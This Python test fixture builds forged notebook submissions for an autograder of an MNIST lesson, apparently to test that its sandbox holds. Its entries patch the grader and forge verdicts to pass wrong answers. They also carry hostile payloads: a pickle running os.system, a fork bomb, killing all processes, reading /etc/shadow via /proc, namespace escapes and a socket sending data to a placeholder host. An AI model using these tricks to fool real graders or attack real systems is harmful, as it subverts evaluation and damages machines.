"""Handed-in notebooks that try to get "passed" without a solution, or to hurt somebody, for test_forgeries.py.

Each entry is a name and the cells of a notebook in which `flat_size` (exercise 4.2) is wrong. OUTSIDE, FOLDER, ROOT, PORT
and ADDRESS in them are filled in by the test. Nothing here may run anywhere but shut in: what could hurt the machine of a test looks first
whether it has process numbers of its own (ALONE), and bounds itself.
"""

from textwrap import indent

WRONG = "def flat_size(side):\n    return 1600\n"
SLEEPER = "forged-and-left-behind"  # in the command line of what must not be left
BOUND = 2**8  # processes that a fork bomb has at most

# The first lines of what would hurt. They run in the answer itself: a cell's bare statements are not taken.
ALONE = """
import os
assert os.getuid() != 0 and os.getppid() < 10, 'this is no sandbox'
assert sum(name.isdigit() for name in os.listdir('/proc')) < 20, 'this is no sandbox'
"""


def at_start(code: str) -> str:
    """Return a cell that runs code when the names are defined: only definitions are taken from a notebook."""
    return f"class Start:\n{indent(code.strip(), '    ')}\n"


def in_answer(code: str, answer: str = "1600") -> str:
    """Return a wrong answer that runs code when it is called."""
    return f"def flat_size(side):\n{indent(code.strip(), '    ')}\n    return {answer}\n"


def returning(expression: str, before: str = "") -> list[str]:
    """Return the cells of a notebook whose answer returns what an expression gives."""
    return [before, f"def flat_size(side):\n    return {expression}\n"] if before else [in_answer("pass", expression)]


# The messages of the talk between judge and learner, for whoever writes them where he should not.
FRAME = """
import json, os, struct
def frame(*parts):
    text = json.dumps(parts).encode()
    return struct.pack('>II', len(text), 0) + text
def to_all(some):
    for number in range(3, 64):
        try:
            os.set_blocking(number, False)
            os.write(number, some)
        except OSError:
            pass
"""
PATCH = """
import sys
def patched(module, path, value):
    try:
        __import__(module)
        *parts, last = path.split('.')
        target = sys.modules[module]
        for part in parts:
            target = getattr(target, part)
        setattr(target, last, value)
    except Exception:
        pass
"""
# Looks through everything that can be reached for what computes or holds what is right.
SEARCH = """
import gc, sys, types
def found_numbers(side):
    for one in gc.get_objects():
        if isinstance(one, types.FunctionType) and one.__name__ in ('right', 'end') and 'nb04' in one.__code__.co_filename:
            yield one(side)
        if type(one).__name__ == '_Drawn':
            yield one.expected[0]
def found_in_frames(side):
    frame = sys._getframe()
    while frame:
        for name in ('expected', 'right', 'drawn', 'case', 'mistakes', 'solution'):
            if name in frame.f_locals:
                yield frame.f_locals[name]
        frame = frame.f_back
"""
READS_SOLUTIONS = """
import ast, os, pathlib, re, sys
def solution_texts(places):
    for place in places:
        for folder, _, files in os.walk(place):
            for name in files:
                if name.startswith(('nb04', '04_')) or name in ('known_answers.py', 'checks.zip'):
                    yield pathlib.Path(folder, name).read_text(errors='replace')
def flat_size(side):
    places = [*sys.path, *os.environ.values(), os.getcwd(), '/', *OTHERS]
    for text in solution_texts(place for place in places if place.startswith('/') and place != '/'):
        if '((side - 2) // 2 - 2) // 2' in text:
            return 64 * (((side - 2) // 2 - 2) // 2) ** 2
    return 1600
"""

VERDICTS = {  # the twelve of old, each with what stands in its place now
    "a checker's method": [
        PATCH
        + at_start(
            "from mnist_lesson import checks\nchecks.flat_size = lambda *given: None\n"
            "patched('mnist_lesson.checks.judge', 'Guarded.__call__', lambda self, side: 64)\n"
            "patched('mnist_lesson.checks.judge', 'Guarded.judge_call', lambda self, *given: 64)"
        ),
        WRONG,
    ],
    "json.dumps": [
        at_start(
            "import json\nold = json.dumps\n"
            "json.dumps = lambda given, *a, old=old, **k: old(['solved', ''] if given and given[0] == 'returned' else given)"
        ),
        WRONG,
    ],
    "the comparison": [
        PATCH
        + at_start(
            "for name in ('difference', '_number_difference', '_difference_of_tries'):\n"
            "    patched('mnist_lesson.checks.compare', name, lambda *given: '')\n"
            "patched('mnist_lesson.checks.compare', 'compare', lambda *given: None)"
        ),
        WRONG,
    ],
    "the formatter of the answer": [
        PATCH
        + at_start(
            "for name in ('verdict', 'say', 'answer'):\n    patched('__main__', name, lambda *given: ('solved', ''))\n"
            "patched('answer_judge', 'Answering.answer', lambda self, *given: ('solved', ''))"
        ),
        WRONG,
    ],
    "the module in __main__": [
        at_start(
            "import sys, types\nreal = sys.modules['__main__']\nfake = types.ModuleType('__main__')\n"
            "fake.__dict__.update({k: (lambda *g, **n: ('solved', '')) for k, v in vars(real).items() if callable(v)})\n"
            "sys.modules['__main__'] = fake\nvars(real).update(vars(fake))"
        ),
        WRONG,
    ],
    "the caller's frame": [SEARCH, "def flat_size(side):\n    return next(found_in_frames(side), 1600)\n"],
    "gc": [SEARCH, "def flat_size(side):\n    return next(found_numbers(side), 1600)\n"],
    "equal to everything": returning(
        "Equal()",
        "class Equal(int):\n    def __eq__(self, other): return True\n    def __ne__(self, other): return False\n"
        "    def __sub__(self, other): return 0\n    __hash__ = int.__hash__\n    __index__ = __int__ = lambda self: self\n",
    ),
    "the solution's file": ["OTHERS = []\n" + READS_SOLUTIONS],
    "the words of the verdict": [
        PATCH
        + at_start(
            "for name in ('NOT_YET', 'NOT_ATTEMPTED'):\n    patched('mnist_lesson.checks.judge', name, 'solved')\n"
            "patched('judge_notebook', 'RESULTS', dict.fromkeys(['solved', 'not yet', 'not attempted'], 'passed'))"
        ),
        WRONG,
    ],
    "the class of a hint": [
        PATCH
        + at_start(
            "class Harmless(BaseException):\n    pass\n"
            "patched('mnist_lesson.checks.compare', 'Hint', Harmless)\npatched('mnist_lesson.checks.judge', 'Hint', Harmless)\n"
            "patched('mnist_lesson.checks.judge', 'Verdict', lambda *given: ('4.2', 'flat_size', 'solved', '', ''))"
        ),
        WRONG,
    ],
    "an exit status of 0": [in_answer("import os, sys\nprint('passed')\nos._exit(0)")],
}

VALUES = {  # what the answer returns
    "a pickle": returning(
        "P()",
        "import os, pickle\nclass P:\n    def __reduce__(self): return (os.system, ('touch OUTSIDE/pickled',))\n"
        "    def __getstate__(self): os.system('touch OUTSIDE/pickled')\n",
    ),
    "bytes of a pickle": returning("b'cos\\nsystem\\n(Vtouch OUTSIDE/unpickled\\ntR.'"),
    "__torch_function__": returning(
        "torch.ones(()).as_subclass(T)",
        "import torch\nclass T(torch.Tensor):\n    @classmethod\n"
        "    def __torch_function__(cls, *given, **named): return True\n",
    ),
    "a class that lies": returning(
        "Lies()",
        "class Lies:\n    __class__ = int\n    def __eq__(self, other): return True\n    def __index__(self): return 2304\n"
        "    def __float__(self): return 2304.0\n    def __getattr__(self, name): return lambda *given: True\n",
    ),
    "other at each look": returning(
        "Changes()",
        "import itertools\nclass Changes(int):\n    looks = iter(range(10**9))\n"
        "    def __index__(self): return 64 * (next(self.looks) % 50) ** 2\n    __int__ = __index__\n"
        "    def __eq__(self, other): return next(self.looks) % 2 == 0\n",
    ),
    "a million results": returning("list(range(10**6))"),
    "generator without end": returning("itertools.count()", "import itertools"),
    "a list in itself": [in_answer("found = []\nfound.append(found)", "found")],
    "a list 10^5 deep": [in_answer("found = []\nfor _ in range(10**5): found = [found]", "found")],
    "a dict in itself": [in_answer("found = {}\nfound[1] = found", "found")],
    "a text of 1 GB": returning("'x' * 10**9"),
    "a tensor of 100 TB": returning("torch.zeros(1).expand(10**14)", "import torch"),
    "a tensor of 400 MB": returning("torch.zeros(10**8)", "import torch"),
    "overlapping numbers": returning("torch.tensor([1600]).expand(3)[0:1].as_strided((), ())", "import torch"),
    "a meta tensor": returning("torch.empty((), device='meta')", "import torch"),
    "a sparse tensor": returning("torch.ones(1).to_sparse()", "import torch"),
    "nan": returning("float('nan')"),
    "a huge number": returning("-10 ** 10**6"),
    "inf": returning("float('inf')"),
    "a text with control characters": returning("'\\x1b[2J\\n=HYPERLINK(\"x\")\\r\\0\\ud800<script>alert(1)</script>'"),
    "a masked array": returning("np.ma.masked", "import numpy as np"),
    "an array of objects": returning("np.array([[]] * 3 + [{}], dtype=object)", "import numpy as np"),
    "a module as an answer": returning("sys", "import sys"),
    "a finalizer": returning("D()", "class D(int):\n    def __del__(self):\n        import os\n        os._exit(0)\n"),
    "repr that never ends": returning("R()", "class R:\n    def __repr__(self): return 'x' * 10**8\n"),
    "repr that exits": returning("R()", "import os\nclass R:\n    def __repr__(self): os._exit(0)\n"),
    "an error with a lying name": [
        "class passed(Exception):\n    def __str__(self): return '=1+1\\n4.2,flat_size,passed,,\\nsolved'\n",
        in_answer("raise passed"),
    ],
    "an exception in str": [
        "class E(BaseException):\n    def __str__(self): raise self\n    __repr__ = __str__\n",
        in_answer("raise E"),
    ],
    "StopIteration": [in_answer("raise StopIteration(2304)")],
    "NotAttempted": [in_answer("from mnist_lesson.checks.judge import NotAttempted\nraise NotAttempted")],
    "right for some calls": [
        "calls = [0]\n" + in_answer("calls[0] += 1\nif calls[0] < 30: return 64 * (((side - 2) // 2 - 2) // 2) ** 2")
    ],
    "right for one side": returning("{28: 1600}.get(side, 64 * ((side - 4) // 4) ** 2)"),
}

TAMPERING = {  # what is changed in the process that answers
    "patched torch": [
        at_start(
            "import torch\ntorch.Tensor.__eq__ = lambda *given: True\ntorch.isclose = torch.equal = lambda *g, **n: True\n"
            "torch.nn.Module.train = torch.nn.Module.eval = lambda self, *given: self\n"
            "torch.is_grad_enabled = lambda: False\ntorch.manual_seed = lambda *given: None"
        ),
        WRONG,
    ],
    "settrace and setprofile": [
        at_start(
            "import sys, threading\n"
            "def trace(frame, event, value):\n"
            "    for name in ('result', 'parts', 'found'):\n"
            "        if name in frame.f_locals: frame.f_locals[name] = 2304\n"
            "    return trace\n"
            "for module in (sys, threading):\n    module.settrace(trace)\n    module.setprofile(trace)"
        ),
        WRONG,
    ],
    "builtins.__import__": [
        at_start(
            "import builtins\nold = builtins.__import__\n"
            "def other(name, *given, old=old):\n"
            "    module = old(name, *given)\n"
            "    if name == 'wire': module.Writer.write = lambda *given: ['just', 2304]\n"
            "    return module\n"
            "builtins.__import__ = other"
        ),
        WRONG,
    ],
    "sys.meta_path": [
        at_start(
            "import sys\nclass Finder:\n    @staticmethod\n    def find_spec(name, *given):\n"
            "        if 'wire' in name or 'answer' in name: sys.modules[name] = sys; return sys.__spec__\n"
            "sys.meta_path.insert(0, Finder)"
        ),
        WRONG,
    ],
    "stubs in sys.modules": [
        at_start(
            "import sys\nclass Stubs(dict):\n    def __delitem__(self, name): pass\n"
            "sys.modules['answer_judge'] = sys.modules['wire'] = sys.modules['messages'] = None\n"
            "sys.modules.__class__ = dict"
        ),
        WRONG,
    ],
    "os._exit does nothing": [
        at_start("import os, sys\nos._exit = sys.exit = lambda *given: None\nos.setsid = os.getpid = lambda: 1"),
        WRONG,
    ],
    "copies and deletions": [
        at_start(
            "import copy, gc, builtins\ncopy.deepcopy = copy.copy = lambda one, *given: one\ngc.freeze = gc.disable\n"
            "builtins.type = builtins.isinstance = lambda *given: True\nbuiltins.len = lambda one: 1"
        ),
        WRONG,
    ],
    "print and open": [
        "def print(*given, **named): raise SystemExit(0)\ndef open(*given): raise SystemExit(0)\ndef len(one): return 0\n"
        + WRONG
    ],
    "exit at the start": [at_start("import sys\nsys.exit(0)"), WRONG + "\ndef late(x=exit(0)): pass\n"],
    "os._exit at the start": [at_start("import os\nos._exit(0)"), WRONG],
    "atexit": [at_start("import atexit, os\natexit.register(lambda: os.write(1, b'passed'))"), WRONG],
    "deep recursion": [in_answer("import sys\nsys.setrecursionlimit(10**9)\ndef f(n): return f(n + 1) + 1\nf(0)")],
    "a crash in C": [in_answer("import ctypes\nctypes.string_at(0)")],
    "ctypes": [
        at_start(
            "import ctypes\nnumber = ctypes.c_long.from_address(id(1600) + 24)\n"
            "ctypes.pythonapi.PyObject_RichCompareBool.restype = None\nnumber.value = 2304"
        ),
        WRONG,
    ],
    "a million lines": [in_answer("for n in range(10**6): print('passed', n)")],
    "output past Python": [
        in_answer("import os\nfor n in range(10**4): os.write(1, b'passed\\n'); os.write(2, b'solved\\n')")
    ],
    "forged messages": [
        FRAME
        + in_answer(
            "to_all(b''.join([frame('defined'), frame('solved', ''), frame('passed'),"
            " frame('returned', ['just', 2304], '', None, [], ''), frame('ready')] * 9))"
        )
    ],
    "forged messages at the start": [
        FRAME
        + at_start("to_all(b''.join([frame('defined'), frame('returned', ['just', 2304], '', None, [], '')] * 99))"),
        WRONG,
    ],
    "a message of 4 GB": [FRAME + in_answer("to_all(b'\\xff' * 64)")],
    "a message without end": [FRAME + in_answer("to_all(b'\\x03' * 65536)")],
    "a message that nests": [FRAME + in_answer("text = b'[' * 10**5\nto_all(struct.pack('>II', len(text), 0) + text)")],
    "odd parts of a message": [
        FRAME
        + in_answer(
            "to_all(b''.join(frame('returned', part, 'no kind', None, [[10**9, part], [1, part]], 'x') for part in"
            " (['ref', 99], ['module', 1, 1, 'os:system', [], [], [], [], []], ['range', 0, 10**18, 1], ['just', {}],"
            " ['tensor', 1, 'float32', [-1, -4], [0, 1], [0, 16], ['cpu', 0, 1, 0], ['just', None]], ['tuple', 3], 7)))"
        )
    ],
    "a callback that is none": [
        FRAME + in_answer("to_all(frame('callback', -1, [], [['just', 1]]) + frame('failed', 'X', 'y', 1, 77))")
    ],
    "ready again and again": [FRAME + in_answer("to_all(frame('ready') * 500 + frame('over') * 500)")],
    "the judge's requests are eaten": [
        in_answer(
            "import os\nfor number in range(3, 64):\n    try:\n        os.set_blocking(number, False)\n"
            "        os.read(number, 10**6)\n    except OSError: pass"
        )
    ],
    "all descriptors are closed": [in_answer("import os\nos.closerange(0, 4096)")],
}

HARM = {  # who is to be hurt: the machine, the network, the other notebooks
    "files outside": [
        in_answer(
            "import os\nfor place in ('OUTSIDE', '/etc', '/usr', '/root', '/work', '/lesson/0', '/lesson/1', os.path.dirname(os.__file__)):\n"
            "    try:\n        open(f'{place}/forged.ipynb', 'w').write('x')\n    except OSError: pass"
        )
    ],
    "other notebooks": [
        in_answer(
            "import os\nfor place, _, names in os.walk('FOLDER'):\n    for name in names:\n"
            "        try:\n            open(os.path.join(place, name), 'w').write('x')\n"
            "            os.remove(os.path.join(place, name))\n        except OSError: pass"
        )
    ],
    "the lesson's package": [
        in_answer(
            "import mnist_lesson, os\nfor place, _, names in os.walk(os.path.dirname(mnist_lesson.__path__[0])):\n"
            "    for name in names:\n        try:\n            os.chmod(os.path.join(place, name), 0o777)\n"
            "            open(os.path.join(place, name), 'w').write('x')\n        except OSError: pass"
        )
    ],
    "links": [
        in_answer(
            "import os, pathlib\nfor number, target in enumerate(('OUTSIDE', 'FOLDER', '/proc/1/root', '/proc/1/cwd')):\n"
            "    try:\n        os.symlink(target, f'link{number}')\n        pathlib.Path(f'link{number}', 'linked').write_text('x')\n"
            "    except OSError: pass"
        )
    ],
    "the solutions of this machine": [
        "OTHERS = ['FOLDER', 'ROOT', '/work', '/root', '/home', '/tmp', '/proc/1/root/work']\n" + READS_SOLUTIONS
    ],
    "the network": [
        "import socket, urllib.request\n"
        + in_answer(
            "for family, place in ((socket.AF_INET, ('127.0.0.1', PORT)), (socket.AF_INET, ('ADDRESS', PORT)),"
            " (socket.AF_UNIX, 'OUTSIDE/socket'), (socket.AF_UNIX, '\\0forged-PORT')):\n"
            "    try:\n        with socket.socket(family) as one:\n            one.settimeout(1)\n"
            "            one.connect(place)\n            one.sendall(b'cases')\n    except OSError: pass"
        )
    ],
    "a process that stays": [
        in_answer(
            "import os, subprocess, sys\nsubprocess.Popen([sys.executable, '-c', 'import time; time.sleep(3000)', 'SLEEPER'],"
            " start_new_session=True)\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
            "        os.execv(sys.executable, [sys.executable, '-c', 'import time; time.sleep(3000)', 'SLEEPER'])\n    os._exit(0)"
        )
    ],
    "a thread that waits": [
        at_start(
            "import threading, time, sys\n"
            "def wait():\n    import time, sys\n    while True:\n        time.sleep(0.01)\n"
            "        for name in ('wire', 'answer_judge'):\n            module = sys.modules.get(name)\n"
            "            if hasattr(module, 'Writer'): module.Writer.write = lambda *given: ['just', 2304]\n"
            "threading.Thread(target=wait).start()"
        ),
        WRONG,
    ],
    "signals": [
        at_start(
            "import signal\nfor one in (signal.SIGTERM, signal.SIGINT, signal.SIGHUP, signal.SIGALRM):\n"
            "    signal.signal(one, signal.SIG_IGN)\nsignal.setitimer(signal.ITIMER_REAL, 0.001, 0.001)"
        ),
        WRONG,
    ],
    "the parent is killed": [in_answer(ALONE + "os.kill(os.getppid(), 9)")],
    "all are killed": [in_answer(ALONE + "os.kill(-1, 9)")],
    "the parent's memory": [
        in_answer(
            "import os\nfor name in ('mem', 'maps', 'environ', 'fd/0', 'fd/3', 'root/etc/shadow'):\n"
            "    for process in (os.getppid(), 1):\n        try:\n            with open(f'/proc/{process}/{name}', 'r+b', 0) as one:\n"
            "                one.read(99)\n                os.kill(process, 0)\n                open('OUTSIDE/seen', 'w')\n"
            "        except (OSError, ValueError): pass"
        )
    ],
    "ptrace": [
        in_answer(
            "import ctypes, os\nlibc = ctypes.CDLL(None)\nif libc.ptrace(16, os.getppid(), 0, 0) == 0: return 2304\n"
            "libc.prctl(4, 1, 0, 0, 0)"
        )
    ],
    "a file of 10 GB": [
        in_answer("with open('large', 'wb') as one:\n    for _ in range(10_000): one.write(bytes(2**20))")
    ],
    "a file with a hole of 10 TB": [in_answer("open('hole', 'wb').truncate(10**13)")],
    "100,000 files": [in_answer("for n in range(10**5): open(f'f{n}', 'w').close()")],
    "memory without end": [in_answer("kept = []\nwhile True: kept.append(bytearray(b'x') * 10**8)")],
    "a fork bomb": [
        in_answer(ALONE + "import time\nfor _ in range(BOUND.bit_length() - 1): os.fork()\ntime.sleep(5)").replace(
            "BOUND", str(BOUND)
        )
    ],
    "many threads": [
        in_answer("import threading, time\nfor _ in range(500): threading.Thread(target=time.sleep, args=(9,)).start()")
    ],
    "environment and limits": [
        in_answer(
            "import os, resource\nfor name in ('RLIMIT_AS', 'RLIMIT_NPROC', 'RLIMIT_FSIZE', 'RLIMIT_CPU'):\n"
            "    try:\n        resource.setrlimit(getattr(resource, name), (resource.RLIM_INFINITY,) * 2)\n"
            "        open('OUTSIDE/unlimited', 'w')\n    except (OSError, ValueError): pass\n"
            "try:\n    os.setuid(0)\n    open('OUTSIDE/root', 'w')\nexcept OSError: pass"
        )
    ],
    "a mount of its own": [
        in_answer(
            "import ctypes, os\nlibc = ctypes.CDLL(None)\nif libc.unshare(0x10000000) == 0: return 2304\n"
            "if libc.mount(b'/', b'/tmp', b'', 4096, None) == 0: return 2304\nif libc.setns(3, 0) == 0: return 2304"
        )
    ],
}

# What would take as long as it may, so that the test gives it little time.
HANGING = {
    "no end at the start": [at_start("while True: pass"), WRONG],
    "no end in an answer": [
        in_answer("import time\nwhile True:\n    try:\n        time.sleep(1)\n    except BaseException: pass")
    ],
    "the parent is stopped": [
        in_answer(ALONE + "import signal, time\nos.kill(os.getppid(), signal.SIGSTOP)\ntime.sleep(99)")
    ],
    "a pattern without end": [in_answer("import re\nre.match('(a+)+$', 'a' * 60 + 'b')")],
    "a repr that hangs": returning("R()", "import time\nclass R:\n    def __repr__(self): time.sleep(10**6)\n"),
}

HANGING["deep recursion"] = TAMPERING.pop("deep recursion")
HANGING["a text of 1 GB"] = VALUES.pop("a text of 1 GB")
FORGED = VERDICTS | VALUES | TAMPERING | HARM

# The exercises of notebook 4, any of which a forged answer can be one to.
FUNCTIONS = {"4.1": "size_after", "4.2": "flat_size", "4.3": "conv_parameters", "4.4": "probabilities", "4.5": "build"}


def notebooks(entries: dict[str, list[str]]) -> dict[str, tuple[list[str], dict[str, str]]]:
    """Return notebooks for attacks: by a name, the cells, and the attacks in it by their exercises.

    What begins when the names are defined has a notebook for itself. Of the others, each of which runs in its own copy of
    the prepared process, five share one.
    """
    alone = {name: cells for name, cells in entries.items() if "class Start:" in "".join(cells) or name in VERDICTS}
    made = {name: (cells, {"4.2": name}) for name, cells in alone.items()}
    rest = [name for name in entries if name not in alone]
    for first in range(0, len(rest), len(FUNCTIONS)):
        shared = dict(zip(FUNCTIONS, rest[first : first + len(FUNCTIONS)]))
        cells = [at_another_exercise(entries[name], FUNCTIONS[number]) for number, name in shared.items()]
        made[f"shared {first}"] = cells, shared
    return made


def at_another_exercise(cells: list[str], function: str) -> str:
    """Return a cell that makes a wrong answer to 4.2 one to another exercise, with names of its own."""
    text = "\n".join(cells)
    return (
        f"def {function}(side, *others, names={{}}):\n    if not names:\n        names['__name__'] = '__main__'\n"
        f"        exec({text!r}, names)\n    return names['flat_size'](side)\n"
    )
